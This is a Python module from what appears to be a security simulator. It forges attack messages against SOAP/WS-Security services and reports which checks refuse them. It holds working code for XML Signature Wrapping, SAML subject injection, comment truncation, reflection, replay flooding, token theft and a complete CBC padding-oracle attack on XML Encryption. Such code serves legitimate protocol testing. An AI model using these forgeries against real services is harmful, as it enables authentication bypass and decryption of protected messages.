"""An adversary on a link, sans-I/O: from captured messages it forges the bytes of attacks,
and it runs the CBC padding oracle as a coroutine over the receiver's answers.

Attacks (the first four named by docs/architecture.md):

* ``steal-token``: a captured token presented by another client (a bearer assertion as is; a
  holder-of-key assertion or a security context with a key the attacker does not have);
* ``replay``: the same bytes again, to the same node;
* ``wrap``: XML Signature Wrapping (the signed Body moved into a header, a forged Body in
  its place);
* ``tamper``: one byte changed inside a protected value;
* ``saml-injection``: a second subject (name ``mallory``, and for holder-of-key the
  attacker's own key) placed inside the assertion's own ds:Signature, which the enveloped
  transform leaves out of the digest (a SAML 1.1 Signature moved first, where a reader that
  takes the first statement's subject looks); the message is then rebuilt around it (bearer),
  protected with the attacker's key (holder-of-key), or left as it was (sender-vouches,
  where the sender's signature covers the assertion);
* ``comment-truncation``: a comment inside a signed value, which exclusive C14N drops: in the
  request's payload where it travels in clear (a reader taking the first text node reads a
  shorter payload), else after its wsa:Action; and the captured response sent to the
  provider with ``Process<!---->Response`` as its Action (read as the request Action);
* ``reflection``: the captured request sent back to its sender as the reply it awaits, and
  the captured response sent to the provider as a request (with the request's tokens);
* ``cross-node-replay``: the captured request, once its receiver accepted it (the attacker
  sees its reply), to another node of the receiver's farm;
* ``replay-flood``: :func:`flood` messages (the captured request with a fresh MessageID and
  Timestamp), then the captured request again;
* ``padding-oracle``: :class:`PaddingOracle` (Jager & Somorovsky, CCS 2011).

The engine (``sim/engine/attacks.py``) delivers each :class:`Forgery` to the receiving engine
of the run and counts whether it was accepted or which check refused it.
"""

from __future__ import annotations

import base64
import copy
import functools
import os
import re
from collections import Counter
from collections.abc import Generator, Hashable, Iterator
from dataclasses import dataclass

from cryptography.hazmat.primitives.asymmetric import rsa
from lxml import etree

from sim.errors import SecurityFault
from sim.protocol import protection as p
from sim.protocol.base import APP_ACTION, PROVIDER_ADDRESS
from sim.wire import ns, saml, sc, soap, wss, xenc
from sim.wire.ledger import NullLedger
from sim.wire.ns import Confirmation, ValueType
from sim.wire.suites import AlgorithmSuite
from sim.wire.xmlparse import parse
from sim.wire.xmlutil import format_time, new_uuid_urn

ATTACKS = (
    "steal-token",
    "replay",
    "wrap",
    "tamper",
    "saml-injection",
    "comment-truncation",
    "reflection",
    "cross-node-replay",
    "replay-flood",
    "padding-oracle",
)
#: attacks that forge once the captured request's response has passed
RESPONSE_ATTACKS = frozenset({"comment-truncation", "reflection", "cross-node-replay"})
#: attacks whose forgeries go to a copy of the receiver (``Forgery.isolated``)
ISOLATED_ATTACKS = frozenset({"saml-injection", "comment-truncation", "reflection"})
#: attacks that send many messages, run by the engine on their own (``flood``, PaddingOracle)
CAMPAIGNS = ("replay-flood", "padding-oracle")

FORGED_PAYLOAD = b"transfer everything to mallory"
INJECTED_SUBJECT = "mallory"

#: where a forgery goes: the captured request's receiver, another node of its farm, or the
#: request's sender (as the reply it awaits)
RECEIVER, PEER, SENDER = "receiver", "peer", "sender"


@dataclass(frozen=True)
class Capture:
    """What the attacker saw on the link: a request and, once it passed, its response."""

    request: bytes
    now: float
    response: bytes | None = None


@dataclass(frozen=True)
class Knowledge:
    """What is public about the attacked service: the provider's certificate and the
    algorithm suite of its policy."""

    provider_certificate: object | None = None
    suite: AlgorithmSuite = p.DEFAULT_SUITE


@dataclass(frozen=True)
class Forgery:
    """One forged message and where it goes."""

    data: bytes
    to: str = RECEIVER
    #: sent in place of the captured message, which the attacker held back: delivered to
    #: the receiver as it was when the captured message arrived (a copy of it), so that
    #: neither the original's traces (its replay-cache entry) nor another forgery refuse it
    isolated: bool = False


def forge(attack: str, capture: Capture, knowledge: Knowledge | None = None) -> list[Forgery]:
    """The forgeries of ``attack`` (not a campaign) from ``capture``; none when it does not
    apply (no token to steal or to inject into)."""
    knowledge = knowledge or Knowledge()
    request = capture.request
    if attack == "replay":
        return [Forgery(request)]
    if attack == "cross-node-replay":
        # a request its receiver refused was never in a replay store: only accepted ones
        return [] if capture.response is None else [Forgery(request, PEER)]
    if attack == "tamper":
        return [Forgery(_tamper(request))]
    if attack == "wrap":
        return [Forgery(_wrap(request))]
    if attack == "steal-token":
        stolen = _steal(request, capture.now)
        return [] if stolen is None else [Forgery(stolen)]
    if attack == "saml-injection":
        return _saml_injection(capture, knowledge)
    if attack == "comment-truncation":
        return _comment_truncation(capture)
    if attack == "reflection":
        return _reflection(capture)
    if attack in CAMPAIGNS:
        raise ValueError(f"{attack} is a campaign: see flood() and PaddingOracle")
    raise ValueError(f"unknown attack {attack!r}; known: {', '.join(ATTACKS)}")


# --- the first four ------------------------------------------------------------------------


def _tamper(data: bytes) -> bytes:
    for marker in (b"SignatureValue>", b"CipherValue>", b"DigestValue>", b"Payload>"):
        index = data.find(marker)
        while index >= 0:
            opening = data.rfind(b"<", 0, index)
            if data[opening + 1 : opening + 2] != b"/":
                position = index + len(marker) + 4
                flipped = b"A" if data[position : position + 1] != b"A" else b"B"
                return data[:position] + flipped + data[position + 1 :]
            index = data.find(marker, index + 1)
    return data[:-20] + b"X" + data[-19:]


def _wrap(data: bytes) -> bytes:
    root = parse(data)
    envelope_ns = etree.QName(root).namespace
    header = root.find(f"{{{envelope_ns}}}Header")
    body = root.find(f"{{{envelope_ns}}}Body")
    if header is None or body is None:
        return data
    forged = etree.Element(body.tag, nsmap=body.nsmap)
    holder = etree.SubElement(forged, ns.qname(ns.APP, "Request"), nsmap={"app": ns.APP})
    etree.SubElement(holder, p.PAYLOAD).text = p.b64(FORGED_PAYLOAD)
    root.replace(body, forged)
    wrapper = etree.SubElement(header, ns.qname(ns.APP, "Wrapper"), nsmap={"app": ns.APP})
    wrapper.append(body)  # the signed original, still resolvable by its Id
    return etree.tostring(root)


def _app_envelope() -> soap.Envelope:
    envelope = soap.new_envelope()
    soap.add_addressing(envelope, action=APP_ACTION, to=PROVIDER_ADDRESS)
    p.put_payload(envelope, FORGED_PAYLOAD)
    return envelope


def _steal(data: bytes, now: float) -> bytes | None:
    root = parse(data)
    assertion = next(root.iter(saml.ASSERTION2, saml.ASSERTION1), None)
    sct_reference = _context_reference(root)
    if assertion is None and sct_reference is None:
        return None
    envelope = _app_envelope()
    guessed_key = os.urandom(32)  # the attacker has the token, not its key
    if assertion is not None:
        if _confirmation(assertion) is Confirmation.BEARER:
            security, _ = p.security_header(envelope, now)
            security.append(assertion)
            return envelope.to_bytes()
        return p.protect_symmetric(
            envelope,
            secret=guessed_key,
            source_reference=lambda: _assertion_reference(assertion),
            now=now,
            ledger=NullLedger(),
            tokens=[assertion],
        )
    identifier = sct_reference
    return p.protect_symmetric(
        envelope,
        secret=guessed_key,
        source_reference=lambda: wss.str_reference(identifier, ValueType.SCT.value),
        now=now,
        ledger=NullLedger(),
    )


def _context_reference(root) -> str | None:
    for reference in root.iter(ns.qname(ns.WSSE, "Reference")):
        if reference.get("ValueType") == ValueType.SCT.value:
            return reference.get("URI")
    return None


# --- SAML injection -----------------------------------------------------------------------

_DS_SIGNATURE = ns.qname(ns.DS, "Signature")
_DS_KEYINFO = ns.qname(ns.DS, "KeyInfo")
_SAML1_METHODS = {uri: method for method, uri in ns.SAML1_CONFIRMATION.items()}


def _confirmation(assertion: etree._Element) -> Confirmation | None:
    """The confirmation method the assertion's (first) subject names."""
    if assertion.tag == saml.ASSERTION2:
        found = assertion.find(f".//{{{ns.SAML2}}}SubjectConfirmation")
        method = None if found is None else found.get("Method")
        return next((c for c in Confirmation if c.value == method), None)
    found = assertion.find(f".//{{{ns.SAML1}}}ConfirmationMethod")
    return None if found is None else _SAML1_METHODS.get((found.text or "").strip())


def _assertion_reference(assertion: etree._Element):
    """The STR by which a message's key names ``assertion`` (its KeyIdentifier)."""
    if assertion.tag == saml.ASSERTION2:
        value_type, token_type = ValueType.SAML2_ID, ns.TokenType.SAML20
    else:
        value_type, token_type = ValueType.SAML_ASSERTION_ID, ns.TokenType.SAML11
    return wss.str_key_identifier(
        saml.assertion_id(assertion), value_type.value, token_type=token_type.value
    )


@functools.cache
def _attacker_key() -> rsa.RSAPrivateKey:
    """The attacker's own RSA key pair (made once)."""
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def _key_value(public_key: rsa.RSAPublicKey) -> etree._Element:
    numbers = public_key.public_numbers()
    key_info = etree.Element(_DS_KEYINFO, nsmap={"ds": ns.DS})
    value = etree.SubElement(key_info, ns.qname(ns.DS, "KeyValue"))
    rsa_value = etree.SubElement(value, ns.qname(ns.DS, "RSAKeyValue"))
    for name, number in (("Modulus", numbers.n), ("Exponent", numbers.e)):
        element = etree.SubElement(rsa_value, ns.qname(ns.DS, name))
        element.text = p.b64(number.to_bytes((number.bit_length() + 7) // 8, "big"))
    return key_info


def _inject(assertion: etree._Element, key_info: etree._Element | None) -> bool:
    """Put a copy of the assertion's subject, naming ``INJECTED_SUBJECT`` (and holding
    ``key_info`` instead of its key), inside the assertion's ds:Signature; False when the
    assertion has no signature or subject (or no key to replace)."""
    namespace = ns.SAML2 if assertion.tag == saml.ASSERTION2 else ns.SAML1
    signature = next(assertion.iterchildren(_DS_SIGNATURE), None)
    original = assertion.find(f".//{{{namespace}}}Subject")
    if signature is None or original is None:
        return False
    subject = copy.deepcopy(original)
    for name in subject.iter(ns.qname(namespace, "NameID"), ns.qname(namespace, "NameIdentifier")):
        name.text = INJECTED_SUBJECT
        for child in list(name):
            name.remove(child)
    if key_info is not None:
        holder = next(subject.iter(_DS_KEYINFO), None)
        if holder is None:
            return False
        holder.getparent().replace(holder, key_info)
    if namespace == ns.SAML1:
        # A SAML 1.1 Signature comes last, and a reader that takes the first statement's
        # subject would not reach it: moved first (the enveloped transform takes it out of
        # the digest wherever it stands), it is that first "statement".
        assertion.remove(signature)
        assertion.insert(0, signature)
    signature.append(subject)
    return True


def _saml_injection(capture: Capture, knowledge: Knowledge) -> list[Forgery]:
    root = parse(capture.request)
    assertion = next(root.iter(saml.ASSERTION2, saml.ASSERTION1), None)
    if assertion is None:
        return []
    confirmation = _confirmation(assertion)
    now = capture.now
    if confirmation is Confirmation.BEARER:
        if not _inject(assertion, None):
            return []
        envelope = _app_envelope()
        security, _ = p.security_header(envelope, now)
        security.append(assertion)
        return [Forgery(envelope.to_bytes(), isolated=True)]
    if confirmation is Confirmation.HOLDER_OF_KEY:
        original = next(assertion.iter(xenc.ENCRYPTED_KEY), None)
        if original is not None:  # a symmetric proof key, encrypted for the provider
            if knowledge.provider_certificate is None:
                return []
            key = os.urandom(32)
            names = original.find(_DS_KEYINFO)
            key_info = etree.Element(_DS_KEYINFO, nsmap={"ds": ns.DS})
            key_info.append(
                xenc.build_encrypted_key(
                    key,
                    knowledge.provider_certificate.public_key(),
                    key_info=None if names is None or not len(names) else copy.deepcopy(names[0]),
                )
            )
            if not _inject(assertion, key_info):
                return []
            data = p.protect_symmetric(
                _app_envelope(),
                secret=key,
                source_reference=lambda: _assertion_reference(assertion),
                now=now,
                ledger=NullLedger(),
                suite_=knowledge.suite,
                tokens=[assertion],
            )
            return [Forgery(data, isolated=True)]
        attacker = _attacker_key()
        if not _inject(assertion, _key_value(attacker.public_key())):
            return []
        data = p.protect_asymmetric(
            _app_envelope(),
            sender=None,  # signed with the attacker's key, named through the assertion
            recipient=None,
            now=now,
            ledger=NullLedger(),
            suite_=knowledge.suite,
            tokens=[assertion],
            signing_key=attacker,
            key_info=_assertion_reference(assertion),
        )
        return [Forgery(data, isolated=True)]
    # sender-vouches: the sender signs the message (and the assertion with it): in place
    if not _inject(assertion, None):
        return []
    return [Forgery(etree.tostring(root), isolated=True)]


# --- comments, reflection -----------------------------------------------------------------

_ACTION = ns.qname(ns.WSA, "Action")
_TOKENS = frozenset(
    {saml.ASSERTION1, saml.ASSERTION2, wss.USERNAME_TOKEN, wss.BINARY_SECURITY_TOKEN, sc.SCT}
)


def _split_with_comment(element: etree._Element, at: int) -> None:
    """Put an empty comment into ``element``'s text at ``at`` (C14N without comments, and
    so the signature, sees the same text)."""
    text = element.text or ""
    comment = etree.Comment("")
    comment.tail = text[at:] or None
    element.text = text[:at]
    element.insert(0, comment)


def _header(root: etree._Element) -> etree._Element | None:
    return root.find(f"{{{etree.QName(root).namespace}}}Header")


def _comment_truncation(capture: Capture) -> list[Forgery]:
    root = parse(capture.request)
    payload = next(root.iter(p.PAYLOAD), None)
    text = None if payload is None or len(payload) else (payload.text or "")
    if text and len(text) >= 8:
        # cut at a multiple of four: the first text node is valid base64 of a shorter payload
        _split_with_comment(payload, len(text) // 8 * 4)
    else:  # the payload travels encrypted: the comment goes into the Action's value
        header = _header(root)
        action = None if header is None else next(header.iterchildren(_ACTION), None)
        if action is None:
            return []
        _split_with_comment(action, len(action.text or ""))
    forgeries = [Forgery(etree.tostring(root), isolated=True)]
    reflected = _reflected_response(capture, comment=True)
    if reflected is not None:
        forgeries.append(Forgery(reflected, isolated=True))
    return forgeries


def _reflected_response(capture: Capture, *, comment: bool) -> bytes | None:
    """The captured response as a request to the provider, carrying copies of the request's
    tokens (the keys of the response derive from them); with ``comment``, its Action split
    by a comment after the request Action (``Process<!---->Response``)."""
    if capture.response is None:
        return None
    root = parse(capture.response)
    header = _header(root)
    action = None if header is None else next(header.iterchildren(_ACTION), None)
    security = None if header is None else next(header.iterchildren(wss.SECURITY), None)
    if action is None or security is None:
        return None
    if comment:
        value = action.text or ""
        if not value.startswith(APP_ACTION) or value == APP_ACTION:
            return None
        _split_with_comment(action, len(APP_ACTION))
    request_header = _header(parse(capture.request))
    request_security = (
        None if request_header is None else next(request_header.iterchildren(wss.SECURITY), None)
    )
    present = {child.tag for child in security}
    tokens = [
        copy.deepcopy(child)
        for child in (request_security if request_security is not None else ())
        if child.tag in _TOKENS and child.tag not in present
    ]
    position = 1 if len(security) and security[0].tag == wss.TIMESTAMP else 0
    for token in reversed(tokens):
        security.insert(position, token)
    return etree.tostring(root)


def _reflection(capture: Capture) -> list[Forgery]:
    forgeries = [Forgery(capture.request, SENDER, isolated=True)]
    reflected = _reflected_response(capture, comment=False)
    if reflected is not None:
        forgeries.append(Forgery(reflected, isolated=True))
    return forgeries


# --- replay-store flooding ----------------------------------------------------------------

_PREFIX = rb"<(?:[A-Za-z_][\w.-]*:)?"
_MESSAGE_ID = re.compile(_PREFIX + rb"MessageID\b[^>]*>([^<]*)<")
_TIMESTAMP = re.compile(_PREFIX + rb"Timestamp\b[^>]*>.*?</(?:[A-Za-z_][\w.-]*:)?Timestamp>", re.S)
_CREATED = re.compile(_PREFIX + rb"Created\b[^>]*>([^<]*)<")
_EXPIRES = re.compile(_PREFIX + rb"Expires\b[^>]*>([^<]*)<")


def flood(capture: Capture, count: int, ttl: float = 300.0) -> Iterator[bytes]:
    """``count`` fresh-looking messages: the captured request, each with a MessageID of its
    own and a Timestamp created now (``capture.now``) and expiring ``ttl`` later."""
    data = capture.request
    holes: list[tuple[int, int, str]] = []
    found = _MESSAGE_ID.search(data)
    if found is not None:
        holes.append((found.start(1), found.end(1), "id"))
    timestamp = _TIMESTAMP.search(data)
    if timestamp is not None:
        for pattern, value in ((_CREATED, capture.now), (_EXPIRES, capture.now + ttl)):
            field = pattern.search(data, timestamp.start(), timestamp.end())
            if field is not None:
                holes.append((field.start(1), field.end(1), format_time(value)))
    holes.sort()
    pieces: list[bytes | str] = []
    start = 0
    for begin, end, value in holes:
        pieces += [data[start:begin], value]
        start = end
    pieces.append(data[start:])
    for _ in range(count):
        yield b"".join(
            piece
            if isinstance(piece, bytes)
            else (new_uuid_urn() if piece == "id" else piece).encode()
            for piece in pieces
        )


# --- the CBC padding oracle ---------------------------------------------------------------

#: the byte the attacker puts in the plaintext positions it has recovered (plain text)
_FILLER = 0x41
_CIPHER_VALUE = ns.qname(ns.XENC, "CipherValue")
_METHOD = ns.qname(ns.XENC, "EncryptionMethod")


@functools.cache
def _parseable() -> frozenset[int]:
    """The bytes that, alone after text, leave XML well-formed: the attacker's model of the
    receiver's parser (libxml2, which it runs itself)."""
    good = set()
    for value in range(256):
        try:
            etree.fromstring(b"<w>" + bytes([_FILLER, value]) + b"</w>")
        except etree.XMLSyntaxError:
            continue
        good.add(value)
    return frozenset(good)


@functools.cache
def _masks() -> tuple[int, ...]:
    """For each value v of a byte of the chosen IV, the bits d (decryptions of the
    ciphertext byte) for which the plaintext byte d xor v is one the parser takes."""
    parseable = _parseable()
    return tuple(
        sum(1 << d for d in range(256) if (d ^ value) in parseable) for value in range(256)
    )


def answer_of(reply: bytes | None) -> tuple[str, str]:
    """What the attacker reads in a receiver's answer: the SOAP fault's code and text, or
    that it was an answer (or none, or unreadable)."""
    if reply is None:
        return ("none", "")
    try:
        fault = soap.read_fault(soap.read_envelope(reply))
    except SecurityFault:
        return ("unreadable", "")
    return ("answer", "") if fault is None else (fault.code, fault.reason)


class PaddingOracle:
    """Jager & Somorovsky's attack on XML Encryption's CBC mode ("How to break XML
    Encryption", CCS 2011), against the EncryptedData of the captured message's Body.

    Each query is the captured message with the Body's CipherValue replaced by a chosen
    initialisation vector and the first ciphertext block. The answers tell the attacker
    which last bytes of the decrypted block are valid padding (1 to the block size) and, with
    the padding set to leave only the first bytes, which of them the receiver's parser takes
    as text: the block's decryption D falls byte by byte, and the plaintext is D xor the
    original IV. :meth:`run` is a coroutine: it yields queries and is sent, for each, what the
    attacker observes of the answer (``observe``); two observations are the same answer when
    their fault code and text are equal and their times differ by at most ``resolution``.

    A receiver that answers every query alike (one fault, the same text, the same work) gives
    nothing: the attacker stops after the 256 queries of the last byte, no block recovered.
    """

    def __init__(self, captured: bytes, *, budget: int = 4096, resolution: float = 1e-6):
        self.budget = budget
        self.resolution = resolution
        self.queries = 0
        #: the first plaintext block of the Body's content, once it fell
        self.recovered: bytes | None = None
        #: the data encryption algorithm of the captured message (its URI's fragment)
        self.algorithm: str | None = None
        self._data = captured
        self._value = b""
        self.size = 0
        root = parse(captured)
        body = root.find(f"{{{etree.QName(root).namespace}}}Body")
        data = None if body is None else next(body.iter(xenc.ENCRYPTED_DATA), None)
        if data is None:
            return
        method = data.find(_METHOD)
        uri = "" if method is None else method.get("Algorithm") or ""
        self.algorithm = uri.rpartition("#")[2] or uri
        value = next(data.iter(_CIPHER_VALUE), None)
        text = "" if value is None or len(value) else (value.text or "").strip()
        try:
            cipher = base64.b64decode(text, validate=True)
        except ValueError:
            return
        size = 8 if "tripledes" in self.algorithm else 16
        if len(cipher) < 2 * size or captured.count(text.encode()) != 1:
            return
        self._value = text.encode()
        self.size = size
        self.iv = cipher[:size]
        self.block = cipher[size : 2 * size]

    @property
    def applies(self) -> bool:
        """Whether the captured message has an encrypted Body to attack."""
        return self.size > 0

    def _query(self, iv: bytearray) -> bytes:
        self.queries += 1
        forged = base64.b64encode(bytes(iv) + self.block)
        return self._data.replace(self._value, forged)

    def _same(self, a: tuple, b: tuple) -> bool:
        return a[:-1] == b[:-1] and abs(a[-1] - b[-1]) <= self.resolution

    def run(self) -> Generator[bytes, Hashable, None]:
        """Yield queries; send each one's observation (a tuple whose last item is the time
        the answer took); ``recovered`` is set when the block falls."""
        if not self.applies:
            return
        n = self.size
        iv = bytearray(self.iv)
        answers: dict[int, tuple] = {}
        for value in range(256):
            iv[n - 1] = value
            answers[value] = yield self._query(iv)
        common = Counter(answers.values()).most_common(1)[0][0]  # invalid padding
        valid = {v for v, answer in answers.items() if not self._same(answer, common)}
        last = [d for d in range(256) if {d ^ k for k in range(1, n + 1)} == valid]
        if len(last) != 1:
            return  # no padding oracle here
        decrypted = [0] * n
        decrypted[n - 1] = last[0]
        empty = answers[last[0] ^ n]  # all padding: nothing left to parse
        masks = _masks()
        for j in range(n - 1):
            iv = bytearray(self.iv)
            for i in range(j):
                iv[i] = decrypted[i] ^ _FILLER
            iv[n - 1] = decrypted[n - 1] ^ (n - 1 - j)  # padding that leaves bytes 0..j
            candidates = (1 << 256) - 1  # bit d: the byte may decrypt to d
            while candidates.bit_count() > 1:
                total = candidates.bit_count()
                value, split = max(
                    (
                        (v, min(kept, total - kept))
                        for v, mask in enumerate(masks)
                        for kept in [(candidates & mask).bit_count()]
                    ),
                    key=lambda pair: pair[1],
                )
                if split == 0 or self.queries >= self.budget:
                    return
                iv[j] = value
                answer = yield self._query(iv)
                if self._same(answer, empty):  # the receiver's parser took the byte
                    candidates &= masks[value]
                else:
                    candidates &= ~masks[value]
            if not candidates:
                return  # the answers fit no byte: not the oracle the attacker assumed
            decrypted[j] = candidates.bit_length() - 1
        self.recovered = bytes(d ^ c for d, c in zip(decrypted, self.iv, strict=True))
